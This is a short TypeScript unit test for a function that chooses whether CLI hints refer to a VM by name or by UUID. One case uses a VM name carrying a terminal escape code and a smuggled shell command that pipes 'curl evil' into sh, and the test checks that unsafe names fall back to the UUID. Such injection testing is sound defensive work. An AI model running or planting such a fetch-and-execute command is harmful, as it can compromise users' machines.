import assert from "node:assert/strict";
import { test } from "node:test";
import { create } from "@bufbuild/protobuf";
import { VmIdSchema } from "../../proto/gen/cloudvmi/v1/guest_pb.ts";
import { referenceTo } from "./up.ts";

const vm = (name: string, uuid: string) => ({ name, id: create(VmIdSchema, { uuid }) });

test("hints name a VM by its name only where no other has it", () => {
  assert.equal(referenceTo([]), "VM");
  assert.equal(referenceTo([vm("web", "1"), vm("db", "2")]), "web");
  assert.equal(referenceTo([vm("web", "1"), vm("web", "2")]), "1");
  assert.equal(referenceTo([vm("", "1")]), "1");
  assert.equal(referenceTo([vm("x\x1b[2K; curl evil | sh #", "1")]), "1");
  assert.equal(referenceTo([vm("--help", "1")]), "1");
});
